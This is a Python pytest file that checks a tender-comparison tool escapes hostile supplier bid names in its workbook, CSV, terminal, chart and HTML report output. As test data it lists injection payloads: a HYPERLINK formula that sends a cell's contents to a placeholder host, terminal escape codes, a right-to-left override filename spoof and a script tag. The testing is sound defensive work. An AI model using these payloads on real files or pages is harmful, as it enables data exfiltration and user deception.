"""Supplier text is text: hostile bid names in every output a buyer opens.

A supplier chooses its bid's name. Whatever it is, the workbook holds it as text
(never a formula), the CSV follows the OWASP CSV-injection rule, the terminal shows
control and bidirectional characters as escapes, the charts draw '$' as '$', and
the report escapes it under a Content-Security-Policy that runs nothing.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
import zipfile
from pathlib import Path
from typing import Any

import pytest

import tco
from tco.cli import main
from tco.views.safe import CSP, csv_cell, visible

openpyxl = pytest.importorskip("openpyxl")

HOSTILE = [
    '=HYPERLINK("http://x?y="&C3,"Acme")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\tx",  # read as 'x': names are stripped
    "x\ty",
    "\r=1+1",  # read as '=1+1'
    "\u2028=2+2",
    "two\nlines  1,450  999",
    "\x1b[31mred\x1b[0m",
    "evil\u202eexe.txt",
    "$x^2$",
    "50 $ and 60 $",
    "c1\x9b2J",
    "<script>alert(1)</script>",
]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def hostile_tender(names: list[str] = HOSTILE) -> dict[str, Any]:
    bid = {"price": "1450 DKK", "power": "32 W", "rated_life": "50000 h"}
    return {
        "model": "indoor-lighting",
        "title": "=1+1 \x1b[2J $t$",
        "assumptions": {"period": "15 year", "quantity": 200},
        "bids": [
            {**bid, "name": name, "price": f"{1450 + 10 * i} DKK"} for i, name in enumerate(names)
        ],
    }


#: The names as read (leading and trailing whitespace is stripped).
NAMES = tuple(name.strip() for name in HOSTILE)


@pytest.fixture(scope="module")
def tender() -> tco.Tender:
    return tco.load_tender(hostile_tender())


@pytest.fixture(scope="module")
def tender_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    import yaml

    path = tmp_path_factory.mktemp("hostile") / "tender.yaml"
    # Double-quoted YAML strings carry the control characters as escapes.
    path.write_text(yaml.safe_dump(hostile_tender(), allow_unicode=False), encoding="utf-8")
    assert tco.load_tender(path).bids == NAMES
    return path


def no_raw_controls(text: str) -> None:
    bad = [c for c in text if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")]
    assert not bad, f"raw control or format characters in the output: {bad!r}"


# -- workbook ------------------------------------------------------------------------------


def test_workbook_cells_from_input_are_never_formulas(tender: tco.Tender, tmp_path: Path) -> None:
    from tco.views.workbook import write_workbook

    path = write_workbook(tender.evaluate(), tmp_path / "r.xlsx", tender=tender)
    book = openpyxl.load_workbook(path)
    live = book.sheetnames[-1]  # the calculation sheet: tco's own formulas, over cell references
    seen = set()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert ws.title == live, f"{ws.title}!{cell.coordinate} is a formula"
                    assert not any(n in cell.value for n in NAMES if len(n) > 2), cell.value
                    assert "HYPERLINK" not in cell.value and '"http' not in cell.value
                    continue
                if isinstance(cell.value, str):
                    seen.add(cell.value)
                    assert not any(c in cell.value for c in "\x1b\u202e\x9b")
    # Every name is there, as the text it is (control characters made visible).
    assert {visible(n) for n in NAMES} <= seen
    assert '=HYPERLINK("http://x?y="&C3,"Acme")' in seen
    # And the file holds no formula element outside the calculation sheet.
    sheets = len(book.sheetnames)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name != f"xl/worksheets/sheet{sheets}.xml":
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)


def test_workbook_text_starting_like_a_formula_shows_as_text(
    tender: tco.Tender, tmp_path: Path
) -> None:
    from tco.views.workbook import write_workbook

    path = write_workbook(tender.evaluate(), tmp_path / "r.xlsx", tender=tender)
    ws = openpyxl.load_workbook(path)["Summary"]
    names = {ws.cell(r, 2).value: ws.cell(r, 2) for r in range(2, ws.max_row + 1)}
    cell = names["+1"]
    assert cell.data_type == "s" and cell.quotePrefix
    # Numbers stay numbers.
    assert isinstance(ws.cell(2, 3).value, float)


# -- CSV --------------------------------------------------------------------------------------


def test_csv_cells_follow_the_owasp_rule(
    tender_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["compare", str(tender_file), "--format", "csv"]) == 0
    out = capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(out)))
    assert len(rows) == len(NAMES) + 1
    bids = [row[1] for row in rows[1:]]
    assert sorted(bids) == sorted(str(csv_cell(n)) for n in NAMES)
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                float(cell)  # only a number may start with '-' or '+'
    assert '\'=HYPERLINK("http://x?y="&C3,"Acme")' in bids
    assert "'-2" in bids and "'+1" in bids and "'@SUM(A1)" in bids
    no_raw_controls(out)


def test_csv_keeps_numbers_numeric() -> None:
    assert csv_cell(-2.5) == -2.5 and csv_cell(0) == 0
    assert csv_cell("-2") == "'-2"  # text that looks like a number is still text


# -- terminal ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ["compare"],
        ["compare", "--lang", "da"],
        ["compare", "--format", "json"],
        ["score"],
        ["baseline", "--baseline", "+1"],
    ],
    ids=["table", "table-da", "json", "score", "baseline"],
)
def test_terminal_output_has_no_raw_control_characters(
    tender_file: Path, args: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([args[0], str(tender_file), *args[1:]]) == 0
    out = capsys.readouterr().out
    no_raw_controls(out)
    if "json" in args:
        assert {b["bid"] for b in json.loads(out)["bids"]} == set(NAMES)
    else:
        # One line per bid: a name with a newline draws no fake row.
        assert "two\\nlines  1,450  999" in out
        assert "\\x1b[31mred" in out and "evil\\u202eexe.txt" in out


def test_error_messages_escape_input_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = hostile_tender(["ok\x1b[2J\nfake row"])
    data["bids"][0]["colour"] = "red"
    path = tmp_path / "t.json.yaml"
    path.write_text(json.dumps(data), encoding="utf-8")
    assert main(["compare", str(path)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and "Traceback" not in err
    no_raw_controls(err)


# -- charts and report ---------------------------------------------------------------------------


def test_charts_draw_dollars_as_dollars(tender: tco.Tender, tmp_path: Path) -> None:
    pytest.importorskip("matplotlib")
    from tco.views.figures import save_figure
    from tco.views.plot import overview, plot

    result = tender.evaluate()
    save_figure(overview(result), tmp_path / "all.png")
    ax = plot(result, "breakdown")
    ax.figure.canvas.draw()
    labels = [t.get_text() for t in ax.get_xticklabels()]
    assert r"\$x^2\$" in labels
    assert any(t.get_window_extent().width > 0 for t in ax.get_xticklabels())
    assert (tmp_path / "all.png").stat().st_size > 10_000


def test_report_escapes_names_and_runs_nothing(tender: tco.Tender, tmp_path: Path) -> None:
    pytest.importorskip("matplotlib")
    from tco.views.report import report_html

    page = report_html(tender.evaluate(), tender)
    assert f'<meta http-equiv="Content-Security-Policy" content="{CSP}">' in page
    assert "script-src 'none'" in CSP and "img-src data:" in CSP
    assert "<script" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "evil\\u202eexe.txt" in page
    no_raw_controls(page)
